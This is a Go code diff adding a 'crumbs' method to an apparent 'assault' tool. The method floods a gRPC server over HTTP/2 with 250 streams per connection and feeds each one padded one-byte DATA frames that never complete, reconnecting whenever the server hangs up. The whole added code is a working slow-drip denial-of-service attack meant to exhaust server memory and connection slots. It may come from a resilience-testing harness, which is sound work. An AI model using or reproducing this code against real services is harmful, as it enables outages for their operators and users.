@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"strings"
 	"sync/atomic"
 	"time"
 )
@@ -124,11 +125,51 @@ func (c *slowCall) read() {
 	}
 }
 
+// crumbs begins all the calls that a connection can have, and sends their messages byte by byte, every other one among padding:
+// each piece is kept until the message is whole. In the place of a connection that the server hangs up on comes another.
+func (a assault) crumbs() error {
+	const calls = 250
+	size := a.Many + 1 // the last byte of a message never comes
+	pace := pacer{time.Now()}
+	long := time.Duration(0)
+	if a.Whole {
+		long = grpcTime
+	}
+	for round := 0; round == 0 || time.Since(pace.begun) < long; round++ {
+		c, err := net.DialTimeout("tcp", a.Addr, time.Second)
+		if err != nil {
+			return err
+		}
+		go func() { _, _ = io.Copy(io.Discard, c) }() // so that the server is not waited for
+		_, err = io.WriteString(c, grpcPreface)
+		for i := range uint32(calls) {
+			if err == nil {
+				_, err = io.WriteString(c, grpcCall(2*i+1, decisionCall, size))
+			}
+		}
+		for sent := 0; sent < a.Many && err == nil; sent += 100 {
+			var out []byte
+			for i := range uint32(calls) {
+				piece := grpcFrame(dataFrame, 0, 2*i+1, "a")
+				if i%2 == 1 {
+					piece = grpcFrame(dataFrame, isPadded, 2*i+1, "\x01a\x00")
+				}
+				out = append(out, strings.Repeat(piece, 100)...)
+			}
+			_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second)) // one that takes nothing more has won
+			_, err = c.Write(out)
+			pace.pause()
+		}
+		c.Close()
+	}
+	return nil
+}
+
 // Kinds of frames of HTTP/2, and flags.
 const (
 	dataFrame, headersFrame, resetFrame, settingsFrame = 0, 1, 3, 4
 
-	endStream, endHeaders = 1, 4
+	endStream, endHeaders, isPadded = 1, 4, 8
 )
 
 // grpcPreface is what a client begins a connection with.
